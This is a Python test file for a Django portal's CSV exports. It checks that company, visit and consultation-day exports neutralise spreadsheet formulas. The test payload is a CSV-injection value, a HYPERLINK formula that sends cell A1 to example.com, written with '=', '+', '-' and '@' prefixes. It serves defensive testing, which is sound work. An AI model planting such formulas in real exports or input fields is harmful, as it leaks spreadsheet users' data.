"""Every CSV export of the portal goes through ihk_office.csv_export: a cell that a spreadsheet would run as a
formula comes out as text. Each file is read back with Python's csv module as a German spreadsheet reads it:
UTF-8 with a byte-order mark, `;` between cells."""

import csv
import io

import pytest
from django.urls import reverse

from ihk_office.csv_export import FORMULA_STARTS

from ..factories import BookingFactory, CompanyFactory, ConsultationDayFactory, VisitFactory

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]


def payload(prefix: str) -> str:
    return f'{prefix}HYPERLINK("https://example.com/?x="&A1;"Klick")'


def read_back(response) -> list[list[str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    text = raw.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))


def assert_neutralised(rows: list[list[str]], value: str) -> None:
    cells = [cell for row in rows[1:] for cell in row]
    assert f"'{value}" in cells  # the value itself, as text
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_the_company_export_neutralises_formulas(staff_client, office, prefix):
    CompanyFactory(name=payload(prefix), street=payload(prefix), notes=payload(prefix))
    rows = read_back(staff_client.get(reverse("companies:export_companies")))
    assert rows[0][0] == "Name"
    assert_neutralised(rows, payload(prefix))


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_the_visit_export_neutralises_formulas(staff_client, office, prefix):
    VisitFactory(company=CompanyFactory(name=payload(prefix)), summary=payload(prefix), notes=payload(prefix))
    rows = read_back(staff_client.get(reverse("companies:export_visits")))
    assert rows[0][0] == "Datum"
    assert_neutralised(rows, payload(prefix))


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_the_day_sheet_export_neutralises_formulas(staff_client, office, prefix):
    day = ConsultationDayFactory(office=office, slots=1)
    BookingFactory(slot=day.slots.get(), name=payload(prefix), question=payload(prefix),
                   school_or_company=payload(prefix), phone=f"{prefix}49 2324 1")
    rows = read_back(staff_client.get(reverse("consultations_staff:day_csv", args=[day.pk])))
    assert rows[0][0] == "Uhrzeit"
    assert_neutralised(rows, payload(prefix))
